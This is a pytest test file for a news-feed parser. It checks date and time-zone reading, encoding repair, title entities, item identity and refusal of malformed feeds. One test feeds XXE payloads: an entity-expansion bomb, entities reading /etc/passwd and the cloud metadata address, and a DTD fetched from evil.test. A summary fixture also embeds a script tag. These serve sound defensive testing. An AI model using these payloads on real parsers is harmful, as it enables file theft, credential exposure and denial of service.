"""What real feeds get wrong, one test per row: text and time are read as far as they can be, and no further."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime

import pytest

from pipelines.fake_providers.feeds import FakeFeeds, atom, entry, item, rss
from pipelines.sources.feeds_news import FeedsNews
from pipelines.sources.live import Outcome
from pipelines.sources.news import NewsAnswer, NewsRequest
from pipelines.sources.web.hosts import Hosts
from tests.fake_clock import Drawn, FakeClock
from tests.recorded.asking_news import HOSTILE, NOON, at, check

PATH = "/news.xml"


@pytest.fixture
def server() -> Iterator[FakeFeeds]:
    """Start a fake server of feeds."""
    with FakeFeeds() as server:
        yield server


def read(server: FakeFeeds, body: str | bytes, content_type: str = "application/rss+xml") -> NewsAnswer:
    """Publish a document, and ask for it at noon of 27 January 2025."""
    source = FeedsNews(hosts=Hosts(FakeClock()), rng=Drawn())
    try:
        return check(source.fetch(NewsRequest(server.put(PATH, body, content_type))))
    finally:
        source.close()


def dated(server: FakeFeeds, text: str) -> dict[str, object]:
    """Return the item whose pubDate is a text."""
    answer = read(server, rss(item("Results", "https://room.example/a", date=text)))
    row: dict[str, object] = answer.items.row(0, named=True)
    assert (row["time_text"] or "") == text
    return row


@pytest.mark.parametrize(
    ("text", "occurred", "available", "basis", "precision"),
    [
        # The zone is explicit.
        ("Fri, 24 Jan 2025 14:30:00 GMT", "2025-01-24 14:30", "2025-01-24 14:30", "offset", "minute"),
        ("Fri, 24 Jan 2025 09:30:00 -0500", "2025-01-24 14:30", "2025-01-24 14:30", "offset", "minute"),
        ("2025-01-24T09:30:00-05:00", "2025-01-24 14:30", "2025-01-24 14:30", "offset", "minute"),
        ("Mon, 24 Jan 2025 09:30:00 -0500", "2025-01-24 14:30", "2025-01-24 14:30", "offset", "minute"),
        # A name that stands for one offset on that day.
        ("Fri, 24 Jan 2025 09:30:00 ET", "2025-01-24 14:30", "2025-01-24 14:30", "zone_name", "minute"),
        ("Fri, 24 Jan 2025 09:30:00 EST", "2025-01-24 14:30", "2025-01-24 14:30", "zone_name", "minute"),
        ("Fri, 12 Jul 2024 14:30:00 BST", "2024-07-12 13:30", "2024-07-12 13:30", "zone_name", "minute"),
        # EST in July: half past nine in New York is 13:30, and what the text says is 14:30; the later counts.
        ("Fri, 12 Jul 2024 09:30:00 EST", "2024-07-12 14:30", "2024-07-12 14:30", "zone_name_off_season", "hour"),
        # No zone, or a clock that nobody has: the day, and it is sure when it is over everywhere.
        ("Fri, 24 Jan 2025 09:30:00", None, "2025-01-25 12:00", "no_zone", "day"),
        ("2025-01-24T09:30:00", None, "2025-01-25 12:00", "no_zone", "day"),
        ("Thu, 23 Jan 2025 24:00:00 GMT", None, "2025-01-24 12:00", "no_zone", "day"),
        ("2025-01-24", None, "2025-01-25 12:00", "date", "day"),
        ("Fri, 24 Jan 2025 00:00:00 GMT", "2025-01-24", "2025-01-25", "midnight", "day"),
        # Nothing that can be read: when it was seen.
        ("1737988200", None, "2025-01-27 12:00", "unreadable", None),
        ("vie, 24 ene 2025 09:30:00 GMT", None, "2025-01-27 12:00", "unreadable", None),
        ("yesterday", None, "2025-01-27 12:00", "unreadable", None),
        ("", None, "2025-01-27 12:00", "none", None),
        # An embargo, or a clock that is ahead: nobody has read it before it was seen.
        ("Tue, 28 Jan 2025 09:30:00 GMT", "2025-01-28 09:30", "2025-01-27 12:00", "offset", "minute"),
    ],
)
def test_a_time_says_what_its_own_text_says(
    server: FakeFeeds, text: str, occurred: str | None, available: str, basis: str, precision: str | None
) -> None:
    """Feedparser's own reading would take what has no zone for UTC, a number for a day of 2018, BST for UTC."""
    row = dated(server, text)
    assert row["occurred_at"] == (at(occurred) if occurred else None)
    assert row["available_at"] == at(available)
    assert (row["time_basis"], row["precision"]) == (basis, precision)


def test_one_time_of_day_on_all_days_is_no_time(server: FakeFeeds) -> None:
    """A blog whose system writes 10:00 for every post; with one other time among them they are believed."""
    days = [at("2025-01-20 10:00") + timedelta(days=n) for n in range(5)]
    posts = [item(f"Post {n}", f"https://b.example/{n}", date=format_datetime(day)) for n, day in enumerate(days)]
    fixed = read(server, rss(*posts)).items
    assert fixed["precision"].to_list() == ["day"] * 5
    assert fixed["time_basis"].to_list() == ["fixed_clock"] * 5
    assert fixed["available_at"][0] == at("2025-01-21 12:00")
    other = item("Post", "https://b.example/x", date="Fri, 24 Jan 2025 09:31:00 GMT")
    assert set(read(server, rss(*posts, other)).items["precision"]) == {"minute"}
    assert set(read(server, rss(*posts[:4])).items["precision"]) == {"minute"}


@pytest.mark.parametrize("declared", ["utf-8", "UTF-8", None])
def test_bytes_of_windows_under_the_name_of_utf_8_are_repaired(server: FakeFeeds, declared: str | None) -> None:
    """Not guessed from what they look like: cp1252 has all of them."""
    head = f'<?xml version="1.0" encoding="{declared}"?>\n' if declared else ""
    body = rss(item("Nvidia\N{RIGHT SINGLE QUOTATION MARK}s caf\u00e9", "https://a.example/1"), head=head)
    assert read(server, body.encode("cp1252")).items["title"][0] == "Nvidia\u2019s caf\u00e9"


def test_a_declared_encoding_is_kept_to(server: FakeFeeds) -> None:
    """ISO-8859-1 under its own name."""
    body = rss(item("caf\u00e9", "https://a.example/1"), head='<?xml version="1.0" encoding="ISO-8859-1"?>\n')
    assert read(server, body.encode("latin-1")).items["title"][0] == "caf\u00e9"


@pytest.mark.parametrize(
    ("raw", "title"),
    [
        ("AT&T beats", "AT&T beats"),
        ("R&D, M&A & more", "R&D, M&A & more"),
        ("AT&amp;T beats", "AT&T beats"),
        ("AT&amp;amp;T beats", "AT&T beats"),
        ("A&nbsp;B &mdash; C", "A B \N{EM DASH} C"),
        ("&nosuch; beats", "&nosuch; beats"),
        ("&#8217;s &#x2019;s", "\u2019s \u2019s"),
        ("<![CDATA[AT&T & <b>co</b>]]>", "AT&T & <b>co</b>"),
        ("  two\n lines ", "two lines"),
        ("a \x1b[31m b", "a \x1b[31m b"),
    ],
)
def test_a_title_loses_no_word(server: FakeFeeds, raw: str, title: str) -> None:
    """Bare ampersands, entities of HTML, control characters, text that was escaped twice."""
    assert read(server, rss(item(raw, "https://a.example/1", is_raw=True))).items["title"].to_list() == [title]


def test_a_mark_and_a_line_before_the_declaration_do_not_matter(server: FakeFeeds) -> None:
    """A byte order mark plus a new line."""
    assert read(server, b"\xef\xbb\xbf\n" + rss(item("x", "https://a.example/1")).encode()).items.height == 1


def test_a_feed_that_ends_too_early_is_broken(server: FakeFeeds) -> None:
    """Its last title would be half of one."""
    body = rss(*(item(f"Title {n}", f"https://a.example/{n}") for n in range(9)))
    for end in (len(body) // 2, len(body) - 20):
        answer = read(server, body[:end])
        assert answer.outcome is Outcome.BROKEN
        assert "without its end" in answer.reason


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        ("<!DOCTYPE html><html><head><title>x</title></head><body></body></html>", "text/html"),
        ("<!DOCTYPE html><html><head><title>x</title></head><body></body></html>", "application/xml"),
        ("<html><body>Access denied</body></html><!-- </rss> -->", "application/rss+xml"),
        ('<?xml version="1.0"?><error>no</error><!-- </feed> -->', "application/xml"),
        ("Too many requests", "text/plain"),
        ('{"version": "https://jsonfeed.org/version/1", "items": []}', "application/json"),
        ("", "application/rss+xml"),
    ],
)
def test_another_document_with_200_is_broken(server: FakeFeeds, body: str, content_type: str) -> None:
    """Feedparser alone finds no items in it, and nothing wrong."""
    assert read(server, body, content_type).outcome is Outcome.BROKEN


def test_a_feed_under_a_wrong_content_type_is_read(server: FakeFeeds) -> None:
    """Many are called text/html."""
    assert read(server, rss(item("x", "https://a.example/1")), "text/html; charset=iso-8859-1").items.height == 1


def test_a_feed_without_items_is_empty(server: FakeFeeds) -> None:
    """It is a feed."""
    assert read(server, rss()).outcome is Outcome.EMPTY


def test_one_guid_for_two_items_makes_two(server: FakeFeeds) -> None:
    """They have links of their own, or titles."""
    linked = rss(item("One", "https://a.example/1", "g"), item("Two", "https://a.example/2", "g"))
    assert read(server, linked).items["title"].to_list() == ["One", "Two"]
    bare = rss(item("One", guid="g"), item("Two", guid="g"))
    assert read(server, bare).items["title"].to_list() == ["One", "Two"]


def test_a_new_guid_for_the_same_link_is_the_same_item(server: FakeFeeds) -> None:
    """So is a new time, a new title and another path of the reader."""
    before = read(
        server, rss(item("One", "https://www.a.example/1?utm_source=rss", "g1", "24 Jan 2025 10:00 GMT"))
    ).items
    after = read(server, rss(item("One, corrected", "http://a.example/1#top", "g2", "25 Jan 2025 10:00 GMT"))).items
    assert before["item_id"].to_list() == after["item_id"].to_list() == ["https://a.example/1"]
    assert after["title"][0] == "One, corrected"


def test_fault_47_a_guid_that_is_reused_is_another_item(server: FakeFeeds) -> None:
    """Else the new item would seem to have been public since the old one."""
    before = read(server, rss(item("One", "https://a.example/1", "g"))).items
    after = read(server, rss(item("Two", "https://a.example/2", "g"))).items
    assert before["item_id"][0] != after["item_id"][0]


def test_a_guid_counts_where_the_link_names_no_item(server: FakeFeeds) -> None:
    """Links to the front page, to one page for all, or none."""
    front = rss(item("One", "https://a.example/", "g1"), item("Two", "https://a.example", "g2"))
    assert read(server, front).items["item_id"].to_list() == ["127.0.0.1#g1", "127.0.0.1#g2"]
    shared = rss(item("One", "https://a.example/halts", "g1"), item("Two", "https://a.example/halts", "g2"))
    assert read(server, shared).items["item_id"].to_list() == ["127.0.0.1#g1", "127.0.0.1#g2"]
    bare = read(server, rss(item("One", guid="17"))).items.row(0, named=True)
    assert bare["item_id"] == "127.0.0.1#17"
    assert bare["url"] == server.base_url + PATH


def test_an_item_without_a_name_is_known_by_what_it_says(server: FakeFeeds) -> None:
    """The same tomorrow; and one that is repeated counts once."""
    body = rss(item("One"), item("Two"), item("One"))
    first, second = read(server, body), read(server, body)
    assert first.items["title"].to_list() == ["One", "Two"]
    assert first.items["item_id"].to_list() == second.items["item_id"].to_list()
    assert first.extra["entries_repeated"] == "1"


def test_an_item_without_a_title_is_called_by_its_text_and_one_that_says_nothing_is_counted(server: FakeFeeds) -> None:
    """Posts have none."""
    text = "<description>&lt;p&gt;We ship &lt;b&gt;today&lt;/b&gt;.&lt;/p&gt;</description>"
    answer = read(server, rss(item("", "https://a.example/1", more=text), item("", "https://a.example/2")))
    assert answer.items["title"].to_list() == ["We ship today."]
    assert answer.extra["entries_without_text"] == "1"


def test_a_summary_is_plain_text_without_scripts_and_cut(server: FakeFeeds) -> None:
    """What a reader of the page would see."""
    text = (
        "<description><![CDATA[<p>AT&amp;T&nbsp;says</p><script>steal()</script><style>p{}</style>hi]]></description>"
    )
    assert read(server, rss(item("x", "https://a.example/1", more=text))).items["summary"][0] == "AT&T says hi"
    long = f"<description>{'word ' * 5000}</description>"
    assert len(read(server, rss(item("x", "https://a.example/1", more=long))).items["summary"][0]) <= 2000


def test_fault_49_headlines_that_are_more_than_text_survive_as_data(server: FakeFeeds) -> None:
    """In RSS and in Atom; whoever shows them makes them harmless."""
    posts = [item(title, f"https://a.example/{n}") for n, title in enumerate(HOSTILE)]
    assert read(server, rss(*posts)).items["title"].to_list() == list(HOSTILE)
    notes = [entry(title, f"https://a.example/{n}", str(n), "2025-01-24T10:00:00Z") for n, title in enumerate(HOSTILE)]
    assert read(server, atom(*notes)).items["title"].to_list() == list(HOSTILE)


ENTITIES = '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'


@pytest.mark.parametrize(
    "declared",
    [
        ENTITIES,
        '<!ENTITY b SYSTEM "file:///etc/passwd">',
        '<!ENTITY b SYSTEM "http://169.254.169.254/latest">',
        '<!entity % p SYSTEM "http://evil.test/x.dtd"> %p;',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_fault_48_a_feed_that_declares_entities_is_refused_whole(
    server: FakeFeeds, declared: str, encoding: str
) -> None:
    """Bombs and files: feedparser alone expands the first."""
    head = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE rss [{declared}]>'
    body = rss(item("&b;", "https://a.example/1", is_raw=True), head=head).encode(encoding)
    answer = read(server, body)
    assert answer.outcome is Outcome.BROKEN
    assert len(server.log) == 3


def test_a_feed_of_2000_items_is_read_whole(server: FakeFeeds) -> None:
    """Each once."""
    answer = read(server, rss(*(item(f"Title {n}", f"https://a.example/{n}", f"g{n}") for n in range(2000))))
    assert answer.items["item_id"].n_unique() == answer.items.height == 2000


def test_atom_names_its_times_and_the_one_of_publication_counts(server: FakeFeeds) -> None:
    """The one of the last change is kept beside it."""
    note = entry(
        "v1", "https://a.example/1", "urn:1", "2025-01-26T10:00:00Z", "<published>2025-01-20T10:00:00Z</published>"
    )
    answer = read(server, atom(note), "application/atom+xml")
    row = answer.items.row(0, named=True)
    assert row["occurred_at"] == at("2025-01-20 10:00")
    assert '"updated": "2025-01-26T10:00:00Z"' in row["attributes"]


def test_releases_of_github_are_releases_and_commits_count_from_when_they_were_seen(server: FakeFeeds) -> None:
    """A commit is dated by whoever made it, at will."""
    release = "tag:github.com,2008:Repository/1/v2.0"
    commit = "tag:github.com,2008:Grit::Commit/abc"
    body = atom(
        entry("\n  v2.0 ", "https://github.com/o/r/releases/tag/v2.0", release, "2025-01-24T10:00:00Z"),
        entry("\n  Fix it\n", "https://github.com/o/r/commit/abc", commit, "2001-01-01T10:00:00Z"),
    )
    items = read(server, body, "application/atom+xml").items
    assert items["kind"].to_list() == ["release", "release"]
    assert items["title"].to_list() == ["v2.0", "Fix it"]
    assert items["available_at"].to_list() == [at("2025-01-24 10:00"), NOON]
    assert items["time_basis"].to_list() == ["offset", "first_seen"]
    assert items["occurred_at"][1] == datetime(2001, 1, 1, 10, tzinfo=UTC)


@pytest.mark.parametrize(
    ("link", "kind"),
    [
        ("https://www.prnewswire.com/news-releases/x.html", "release"),
        ("https://nvidianews.nvidia.com/news/x", "release"),
        ("https://notprnewswire.com/x", "headline"),
        ("https://example.com/prnewswire.com", "headline"),
    ],
)
def test_what_a_wire_carries_is_a_release(server: FakeFeeds, link: str, kind: str) -> None:
    """By the host of the link."""
    assert read(server, rss(item("x", link))).items["kind"].to_list() == [kind]


def test_links_may_be_relative_to_the_feed(server: FakeFeeds) -> None:
    """And lead where a browser would go."""
    items = read(server, rss(item("x", "/2025/x.html"))).items
    assert items["url"][0] == server.base_url + "/2025/x.html"
